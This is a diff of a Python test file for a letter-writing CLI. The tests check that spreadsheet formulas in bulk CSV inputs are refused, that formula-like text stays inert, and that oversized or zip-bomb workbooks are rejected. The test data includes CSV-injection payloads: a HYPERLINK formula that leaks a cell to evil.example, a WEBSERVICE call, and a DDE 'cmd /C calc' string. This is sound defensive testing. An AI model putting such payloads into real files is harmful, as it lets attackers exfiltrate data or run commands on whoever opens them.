@@ -490,12 +490,17 @@ def test_hostile_text_through_the_command(runner: CliRunner, tmp_path: Path) -> 
 # --------------------------------------------------------------------------------------------
 # Spreadsheets with formulas
 
-FORMULAS = {
-    "child_1_name": '=HYPERLINK("http://evil.example/?d="&B2,"Sam Doe")',
-    "communication_breakdown_summary": "=1+1",
+#: Text that a spreadsheet would run as a formula once the CSV is opened in it, but which does
+#: not start with "=": swletter takes it as the text it is, and shows it as typed.
+FORMULA_LIKE = {
     "sender_name": "+SUM(A1:A9)",
     "recipient_name": "-2+3",
     "worker_name": "@SUM(1)",
+}
+#: Formulas: refused in a letter, the cell named.
+FORMULAS = {
+    "child_1_name": '=HYPERLINK("http://evil.example/?d="&B2,"Sam Doe")',
+    "communication_breakdown_summary": "=1+1",
 }
 
 
@@ -506,27 +511,27 @@ def _read_csv(path: Path) -> list[list[str]]:
         return list(csv.reader(fh))
 
 
-def test_spreadsheet_formulas_are_text_in_letters_and_inert_in_the_report(
+def test_spreadsheet_formulas_are_refused_formula_like_text_is_text_and_the_report_is_inert(
         runner: CliRunner, tmp_path: Path) -> None:
     import csv
+
+    from letters.bulk.report import REPORT_HEADERS
 
     assert runner.invoke(main, ["bulk-template", str(tmp_path / "cases.csv")]).exit_code == 0
     cases_csv, evidence_csv = tmp_path / "cases.csv", tmp_path / "cases-evidence.csv"
     header, notes, example = _read_csv(cases_csv)
-    good = dict(zip(header, example, strict=True)) | FORMULAS | {
-        "case_id": "=cmd|' /C calc'!A0", "child_not_engaging_child": FORMULAS["child_1_name"]}
-    bad = dict(good, case_id="=2+2", sender_address="")  # the address is required
+    good = dict(zip(header, example, strict=True)) | FORMULA_LIKE | {
+        "case_id": "=cmd|' /C calc'!A0"}
+    bad = dict(good, case_id="=2+2") | FORMULAS
     with cases_csv.open("w", encoding="utf-8", newline="") as fh:
         writer = csv.writer(fh)
         writer.writerows([header, notes, [good[h] for h in header], [bad[h] for h in header]])
     evidence = _read_csv(evidence_csv)
     rows = [evidence[0], evidence[1]]
     for row in evidence[2:]:
-        rows.append(row)
-        rows.append([good["case_id"] if row[0] == "EXAMPLE-1" else row[0], *row[1:]])
-        rows.append([bad["case_id"] if row[0] == "EXAMPLE-1" else row[0], *row[1:]])
-    rows = [r for r in rows if r[0] != "EXAMPLE-1"]
-    rows[2][4] = "=WEBSERVICE(\"http://evil.example\")"  # an evidence description
+        rows.append([good["case_id"], *row[1:]])
+        rows.append([bad["case_id"], *row[1:]])
+    rows[3][4] = "=WEBSERVICE(\"http://evil.example\")"  # an evidence description of the bad row
     with evidence_csv.open("w", encoding="utf-8", newline="") as fh:
         csv.writer(fh).writerows(rows)
 
@@ -539,10 +544,15 @@ def test_spreadsheet_formulas_are_text_in_letters_and_inert_in_the_report(
     (letter,) = (tmp_path / "out").glob("*.md")
     shown, tags = html_text(MarkdownIt("commonmark").render(letter.read_text("utf-8")))
     assert tags <= LETTER_TAGS  # no link was made
-    for text in [*FORMULAS.values(), '=WEBSERVICE("http://evil.example")']:
+    for text in FORMULA_LIKE.values():
         assert text in shown
+    refused = "the cell holds a formula. swletter never calculates formulas"
+    for place in ("cases.csv, row 4, column child_1_name",
+                  "cases.csv, row 4, column communication_breakdown_summary",
+                  "cases-evidence.csv, row 4, column description"):
+        assert f"  - {place}: {refused}" in result.stderr
     cells = [cell for row in _read_csv(report) for cell in row]
-    assert len(cells) == 3 * 6
+    assert len(cells) == 3 * len(REPORT_HEADERS)
     assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
 
 
@@ -550,11 +560,11 @@ def test_workbook_that_unpacks_to_gigabytes_is_refused_unread(
         runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     import zipfile
 
-    import letters.bulk.sheets
+    import letters.bulk.tables
 
     # A "zip bomb": a small file that unpacks to far more than any workbook of cases. The limit
     # is lowered for the test so the bomb can be small too.
-    monkeypatch.setattr(letters.bulk.sheets, "MAX_UNPACKED_SHEET_BYTES", 1024 * 1024)
+    monkeypatch.setattr(letters.bulk.tables, "MAX_UNPACKED_SHEET_BYTES", 1024 * 1024)
     book = tmp_path / "cases.xlsx"
     with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("xl/worksheets/sheet1.xml", b" " * (2 * 1024 * 1024))
@@ -568,7 +578,7 @@ def test_workbook_that_unpacks_to_gigabytes_is_refused_unread(
 
 
 def test_oversized_spreadsheet_is_refused_unread(runner: CliRunner, tmp_path: Path) -> None:
-    from letters.bulk.sheets import MAX_SHEET_BYTES
+    from letters.bulk.tables import MAX_SHEET_BYTES
 
     sheet = tmp_path / "cases.csv"
     with sheet.open("wb") as fh:
